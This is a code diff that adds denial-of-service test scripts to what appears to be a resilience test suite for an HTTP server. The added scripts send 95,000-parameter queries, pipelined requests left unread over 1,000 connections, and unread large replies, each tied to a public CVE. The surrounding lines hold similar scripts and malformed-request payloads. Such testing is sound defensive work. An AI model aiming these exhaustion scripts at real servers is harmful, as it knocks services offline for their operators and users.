@@ -137,6 +137,13 @@ def long_names(line: Line) -> Script:
     yield from forever(line.target.head("GET", long_path), line.target.head("GET", "", "n" * 60_000 + ": x"))
 
 
+@attack(on=HTTP, connections=60)
+def many_parameters(line: Line) -> Script:
+    """CVE-2011-4885: queries of 95,000 parameters. Where a reply can be delayed, it is."""
+    last = "delay=60000" if line.target.service == "demo" else "x"
+    yield line.target.head("GET", line.target.path.partition("?")[0] + "?" + "tag&" * 95_000 + last)
+
+
 MALFORMED = (
     b"GET /demo/hello HTTP/1.1\r\n\r\n",  # CVE-2019-18838: no Host
     b"GET /demo/hello HTTP/1.1\r\nHost: a b/c@d\r\n\r\n",
@@ -208,6 +215,19 @@ def pipelined_connect(line: Line) -> Script:
 def unread_pipeline(line: Line) -> Script:
     """CVE-2020-8661: requests that are refused, one behind the other over 100 connections, whose answers are not read."""
     yield from forever(line.target.head("GET", "/none") * 1000)
+
+
+@attack(on=(*HTTP, *ADMIN), connections=1000, reads=False, exhausts=HTTP)
+def unread_pipelines_of_many(line: Line) -> Script:
+    """CVE-2020-8661: the same over 1,000 connections: what each holds, in the process and in the kernel, is little."""
+    yield from unread_pipeline(line)
+
+
+@attack(on=(*HTTP, *ADMIN), connections=400, reads=False)
+def unread_last_replies(line: Line) -> Script:
+    """CVE-2009-1926: 400 requests for large replies with "Connection: close", whose replies are not read: the server closes the
+    connections, and its kernel keeps what was not taken."""
+    yield line.target.head("GET", line.target.large, "Connection: close")
 
 
 @attack(on=("demo", "demo:admin", "route-guide:admin"), connections=20, reads=False)
